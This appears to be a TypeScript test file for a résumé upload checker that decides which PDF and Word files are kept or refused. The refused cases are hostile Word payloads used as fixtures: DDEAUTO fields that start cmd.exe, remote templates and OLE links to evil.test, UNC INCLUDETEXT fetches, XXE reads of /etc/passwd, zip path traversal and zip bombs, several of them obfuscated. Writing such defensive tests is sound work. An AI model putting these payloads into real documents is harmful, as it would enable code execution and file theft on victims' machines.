import { expect, test } from 'vitest'
import { type DocumentRefusal, type DocumentType, documentRefusals, documentTypes } from '#contract/documents.ts'
import { resumeBytes } from '#contract/hiring/resumes.ts'
import { isFullRun } from '#server/app/test-time.ts'
import { refusalOf } from './document-check.ts'
import { macroTypes, makeDocx, makePdf, makeZip, packedObjects, sheetTypes } from './test-documents.ts'
import { refusedPdfs } from './test-refused-pdfs.ts'

const relation = (type: string, target: string, mode = 'External') => ({
  name: 'word/_rels/document.xml.rels',
  content: `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
})
const zeros = Buffer.alloc(8 * 1024 * 1024)
const text = (words: string) => Buffer.from(words)
const field = (...instructions: string[]) => `<w:p>${instructions.map((text) => `<w:r>${text}</w:r>`).join('')}</w:p>`
const instruction = (text: string) => `<w:instrText xml:space="preserve">${text}</w:instrText>`

test.each<[what: string, type: DocumentType, bytes: Buffer]>([
  ['a PDF', 'pdf', makePdf()],
  ['a PDF 2.0', 'pdf', makePdf({ header: '%PDF-2.0' })],
  ['a PDF that opens at its first page', 'pdf', makePdf({ trailer: '/OpenAction [3 0 R /Fit]' })],
  ['a PDF with links', 'pdf', makePdf({ objects: ['5 0 obj << /S /URI /URI (https://me.test) >> endobj'] })],
  [
    'a PDF by somebody who knows JavaScript',
    'pdf',
    makePdf({ objects: ['6 0 obj << /Keywords (HTML/JavaScript, /Launch) >> endobj'] }),
  ],
  ['a PDF with packed objects', 'pdf', makePdf({ objects: [packedObjects('8 0 << /Type /Font >>')] })],
  ['a PDF with zeros behind its end', 'pdf', makePdf({ end: '%%EOF\r\n\0\0' })],
  ['a Word document', 'docx', makeDocx()],
  ['a Word document with links', 'docx', makeDocx({ more: [relation('hyperlink', 'https://me.test')] })],
  [
    'a Word document with a picture',
    'docx',
    makeDocx({ more: [{ name: 'word/media/image1.png', content: text('\x89PNG'), method: 0 }] }),
  ],
  [
    'a Word document with fields',
    'docx',
    makeDocx({
      body: field(
        '<w:fldChar w:fldCharType="begin"/>',
        instruction(' HYPER'),
        instruction('LINK "https://hi'),
        instruction('dden.test/dde" '),
        '<w:fldChar w:fldCharType="separate"/>',
        '<w:t>2 &lt; 3 &amp; 4 > 1</w:t>',
        '<w:fldChar w:fldCharType="end"/>',
      ),
    }),
  ],
  [
    'a PDF with a picture that unpacks to hundreds of megabytes',
    'pdf',
    makePdf({
      objects: Array.from({ length: 8 }, () =>
        packedObjects(zeros.toString('latin1'), { type: '/Subtype /Image', entries: '' }),
      ),
    }),
  ],
  [
    'a PDF of a printer that numbers the streams of its colors',
    'pdf',
    makePdf({ objects: ['4 0 obj << /N 3 /Length 1 >>\rstream\r\nx\nendstream endobj'] }),
  ],
  [
    'a Word document that speaks of DDE and macros',
    'docx',
    makeDocx({ body: '<w:t>DDE "x", vbaProject, INCLUDETEXT</w:t>' }),
  ],
])('%s may be kept', (_, type, bytes) => {
  expect(refusalOf(bytes, type)).toBeUndefined()
})

const hostile: [what: string, type: DocumentType, bytes: Buffer, refusal: DocumentRefusal][] = [
  ...refusedPdfs.map(([what, bytes, refusal]) => [what, 'pdf', bytes, refusal] as (typeof hostile)[number]),
  ['an older Word file', 'docx', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'oldWord'],
  ['a PDF called Word', 'docx', makePdf(), 'notDocx'],
  ['a program called Word', 'docx', text('MZ\x90\0'), 'notDocx'],
  ['nearly nothing', 'docx', text('PK'), 'notDocx'],
  ['an archive', 'docx', makeZip([{ name: 'holiday.jpg', content: 'x' }]), 'notDocx'],
  ['a Java program', 'docx', makeZip([{ name: 'META-INF/MANIFEST.MF', content: 'x' }]), 'notDocx'],
  ['a spreadsheet', 'docx', makeDocx({ types: sheetTypes }), 'notDocx'],
  ['a Word document cut off', 'docx', makeDocx().subarray(0, 120), 'docxDamaged'],
  ['a Word document with something behind it', 'docx', makeDocx({ after: text('MZ and more') }), 'docxDamaged'],
  [
    'a Word document with something hidden inside',
    'docx',
    makeDocx({ between: Buffer.alloc(4096, 'MZ') }),
    'docxUnusual',
  ],
  [
    'a Word document that is a PDF as well',
    'docx',
    makeZip([{ name: 'a', content: makePdf(), method: 0 }]),
    'twoFormats',
  ],
  [
    'a Word document with a password',
    'docx',
    makeDocx({ more: [{ name: 'word/a.xml', content: 'x', flags: 1 }] }),
    'docxPassword',
  ],
  ['a Word document with macros', 'docx', makeDocx({ types: macroTypes }), 'docxMacros'],
  [
    'a Word document with a macro project',
    'docx',
    makeDocx({ more: [{ name: 'word/vbaProject.bin', content: 'x' }] }),
    'docxMacros',
  ],
  [
    'a Word document with controls',
    'docx',
    makeDocx({ more: [{ name: 'word/activeX/activeX1.xml', content: '<x/>' }] }),
    'docxMacros',
  ],
  [
    'a Word document with a file inside',
    'docx',
    makeDocx({ more: [{ name: 'word/embeddings/oleObject1.bin', content: 'x' }] }),
    'docxEmbedded',
  ],
  [
    'a Word document with a program as a picture',
    'docx',
    makeDocx({ more: [{ name: 'word/media/image1.png', content: 'MZ\x90' }] }),
    'docxEmbedded',
  ],
  [
    'a Word document with an archive as a picture',
    'docx',
    makeDocx({ more: [{ name: 'word/media/image1.png', content: makeDocx() }] }),
    'docxEmbedded',
  ],
  [
    'a template from elsewhere',
    'docx',
    makeDocx({ more: [relation('attachedTemplate', 'https://evil.test/t.dotm')] }),
    'docxOutside',
  ],
  [
    'a picture from elsewhere',
    'docx',
    makeDocx({ more: [relation('image', 'https://evil.test/pixel.png')] }),
    'docxOutside',
  ],
  [
    'an object from elsewhere',
    'docx',
    makeDocx({ more: [relation('oleObject', 'mhtml:https://evil.test!x')] }),
    'docxOutside',
  ],
  [
    'a picture from elsewhere, in UTF-16',
    'docx',
    makeDocx({
      more: [
        { ...relation('image', ''), content: Buffer.from(relation('image', 'https://evil.test').content, 'utf16le') },
      ],
    }),
    'docxOutside',
  ],
  [
    'a field that starts a program',
    'docx',
    makeDocx({ body: '<w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText>' }),
    'docxOutside',
  ],
  [
    'a field that fetches a file',
    'docx',
    makeDocx({ body: '<w:fldSimple w:instr=" INCLUDETEXT \\\\evil.test\\x"/>' }),
    'docxOutside',
  ],
  [
    'a template from elsewhere, written in numbers',
    'docx',
    makeDocx({ more: [relation('attachedTemplate', 'https://evil.test/t.dotm', '&#69;xtern&#x61;l')] }),
    'docxOutside',
  ],
  [
    'a template from elsewhere behind a bracket in a value',
    'docx',
    makeDocx({ more: [relation('attachedTemplate', 'https://evil.test/?>')] }),
    'docxOutside',
  ],
  [
    'a template from elsewhere that says it is a part',
    'docx',
    makeDocx({ more: [relation('attachedTemplate', 'https://evil.test/t.dotm', 'Internal')] }),
    'docxOutside',
  ],
  [
    'a template from elsewhere in a part of another name',
    'docx',
    makeDocx({ more: [{ ...relation('attachedTemplate', 'https://evil.test/t.dotm'), name: 'word/_rels/a.png' }] }),
    'docxOutside',
  ],
  [
    'a template from elsewhere, in big-endian UTF-16',
    'docx',
    makeDocx({
      more: [
        {
          ...relation('attachedTemplate', ''),
          content: Buffer.from(
            `\ufeff${relation('attachedTemplate', 'https://evil.test').content}`,
            'utf16le',
          ).swap16(),
        },
      ],
    }),
    'docxOutside',
  ],
  [
    'an object by its relation',
    'docx',
    makeDocx({
      more: [relation('oleObject', 'media/a.bin', 'Internal'), { name: 'word/media/a.bin', content: 'x', method: 0 }],
    }),
    'docxEmbedded',
  ],
  [
    'a field that starts a program, in two pieces',
    'docx',
    makeDocx({ body: field(instruction(' DD'), instruction('EAUTO c:\\\\cmd.exe "/k calc"')) }),
    'docxOutside',
  ],
  [
    'a field that starts a program, in pieces over two paragraphs',
    'docx',
    makeDocx({
      body: field(instruction('D')) + field('<w:fldChar w:fldCharType="x"/>', instruction('<![CDATA[DE]]>&#32;x')),
    }),
    'docxOutside',
  ],
  [
    'a field that starts a program, written in numbers',
    'docx',
    makeDocx({ body: '<w:fldSimple w:instr="&#68;DEAUTO c:\\\\cmd.exe"/>' }),
    'docxOutside',
  ],
  [
    'a field that starts a program, by another prefix',
    'docx',
    makeDocx({ body: '<x:instrText xmlns:x="w">DDEAUTO c:\\\\cmd.exe</x:instrText>' }),
    'docxOutside',
  ],
  [
    'a field whose name another field makes',
    'docx',
    makeDocx({
      body: field(
        '<w:fldChar w:fldCharType="begin"/>',
        '<w:fldChar w:fldCharType="begin"/>',
        instruction('QUOTE 68 68 69'),
        '<w:fldChar w:fldCharType="end"/>',
        instruction(' c:\\\\cmd.exe'),
        '<w:fldChar w:fldCharType="end"/>',
      ),
    }),
    'docxOutside',
  ],
  [
    'a link to a file that is shown',
    'docx',
    makeDocx({
      body: field('<w:fldChar w:fldCharType="begin"/>', instruction(' LINK Excel.Sheet "\\\\evil.test\\x"')),
    }),
    'docxOutside',
  ],
  [
    'macros, written in numbers',
    'docx',
    makeDocx({
      types: macroTypes
        .replace('</Types>', `<Override ContentType="${documentTypes.docx}.main+xml"/></Types>`)
        .replace('macroE', 'macro&#69;'),
    }),
    'docxMacros',
  ],
  [
    'a part in a rare encoding',
    'docx',
    makeDocx({ more: [{ name: 'word/a.xml', content: '<?xml version="1.0" encoding="UTF-7"?><x/>' }] }),
    'docxUnusual',
  ],
  ['a part that does not end', 'docx', makeDocx({ more: [{ name: 'word/a.xml', content: '<x a="' }] }), 'docxUnusual'],
  [
    'a bomb',
    'docx',
    makeDocx({ more: Array.from({ length: 8 }, (_, at) => ({ name: `word/media/${at}.bmp`, content: zeros })) }),
    'docxHuge',
  ],
  [
    'a bomb that lies about its size',
    'docx',
    makeDocx({ more: [{ name: 'word/media/1.bmp', content: zeros, size: 100 }] }),
    'docxUnusual',
  ],
  [
    'too many parts',
    'docx',
    makeDocx({ more: Array.from({ length: 2_100 }, (_, at) => ({ name: `word/${at}.xml`, content: '' })) }),
    'docxHuge',
  ],
  [
    'a path out of the archive',
    'docx',
    makeDocx({ more: [{ name: '../../etc/cron.d/x', content: 'x' }] }),
    'docxUnusual',
  ],
  ['a path from the root', 'docx', makeDocx({ more: [{ name: '/etc/passwd', content: 'x' }] }), 'docxUnusual'],
  ['a path of Windows', 'docx', makeDocx({ more: [{ name: 'C:\\Windows\\x.dll', content: 'x' }] }), 'docxUnusual'],
  [
    'two parts of one name',
    'docx',
    makeDocx({ more: [{ name: 'word/document.xml', content: '<x/>' }] }),
    'docxUnusual',
  ],
  [
    'a part with two names',
    'docx',
    makeDocx({ more: [{ name: 'word/a.xml', localName: 'word/vbaProject.bin', content: '<x/>' }] }),
    'docxUnusual',
  ],
  [
    'a rare way of packing',
    'docx',
    makeDocx({ more: [{ name: 'word/a.xml', content: 'x', method: 14 }] }),
    'docxUnusual',
  ],
  [
    'entities',
    'docx',
    makeDocx({
      more: [{ name: 'word/a.xml', content: '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>' }],
    }),
    'docxUnusual',
  ],
]

test.each(hostile)('%s (%s) is refused', (_, type, bytes, refusal) => {
  expect(refusalOf(bytes, type)).toBe(refusal)
})

test('there are more than forty of them, and each has a sentence that says what to do', () => {
  expect(hostile.length).toBeGreaterThanOrEqual(40)
  const tooMuch = ['pdfTooMuch', 'docxTooMuch']
  expect(new Set([...hostile.map(([, , , refusal]) => refusal), ...tooMuch])).toEqual(
    new Set(Object.keys(documentRefusals)),
  )
  for (const sentence of Object.values(documentRefusals)) expect(sentence).toMatch(/ Please .+\.$/)
})

const filled = (bytes: number, unit: string) => unit.repeat(Math.floor(bytes / unit.length))
const inPdf = (unit: string) => (bytes: number) => makePdf({ objects: [filled(bytes - 1_000, unit)] })
const inWord = (unit: string) => (bytes: number) =>
  makeDocx({ more: [{ name: 'word/a.xml', content: filled(bytes, unit) }] })
const kilobyte = 1024

/** Every check is linear in the file size, even for malicious files. */
test.each<[what: string, type: DocumentType, make: (bytes: number) => Buffer, largest: number]>([
  ['`/S%`', 'pdf', inPdf('/S%'), resumeBytes],
  ['`/S%` and lines', 'pdf', inPdf('/S%/S%\n%\n%\n'), resumeBytes],
  ['`/ObjStm`', 'pdf', inPdf('/ObjStm '), resumeBytes],
  ['`/Encrypt 1 0`', 'pdf', inPdf('/Encrypt 1 0 '), resumeBytes],
  ['texts that do not end', 'pdf', inPdf('/S ( '), resumeBytes],
  ['dictionaries that do not end', 'pdf', inPdf('1 0 obj<<('), resumeBytes],
  ['objects that are comments', 'pdf', inPdf('obj%'), resumeBytes],
  ['dictionaries', 'pdf', inPdf('1 0 obj<</N 1>>stream\n'), resumeBytes],
  ['packed `/S%`', 'pdf', (bytes) => makePdf({ objects: [packedObjects(filled(bytes, '/S%'))] }), 8 * resumeBytes],
  ['`<`', 'docx', inWord('<'), 8 * resumeBytes],
  ['`<a `', 'docx', inWord('<a '), 8 * resumeBytes],
  ['`<w:instrText`', 'docx', inWord('<w:instrText '), 8 * resumeBytes],
  ['elements', 'docx', inWord('<a b="c"/>'), 2 * resumeBytes],
  ['blank fields', 'docx', inWord('<w:instrText> </w:instrText>'), 2 * resumeBytes],
  ['fields', 'docx', inWord('<w:instrText>D</w:instrText>'), 2 * resumeBytes],
  ['numbers', 'docx', inWord('<a instr="&#68;"/>'), 2 * resumeBytes],
])('%s in any number take their size (%s)', (_, type, make, most) => {
  const largest = isFullRun ? most : most / 8
  const spend = (bytes: number) => {
    const file = make(bytes)
    const started = process.threadCpuUsage()
    refusalOf(file, type)
    return process.threadCpuUsage(started).user / 1_000
  }
  for (let bytes = 40 * kilobyte; bytes < largest / 2; bytes *= 2) expect(spend(bytes), `${bytes}`).toBeLessThan(2_000)
  const half = spend(largest / 2)
  expect(spend(largest)).toBeLessThan(3 * half + 300)
})

test('five megabytes are looked through in less than half a second', () => {
  const page = Buffer.concat([
    text('7 0 obj << /Length 1 >> stream\n'),
    Buffer.alloc(resumeBytes - 600, '/S ( '),
    text('\nendstream endobj'),
  ])
  const started = process.threadCpuUsage()
  expect(refusalOf(makePdf({ objects: [page] }), 'pdf')).toBeUndefined()
  expect(process.threadCpuUsage(started).user).toBeLessThan(500_000)
})
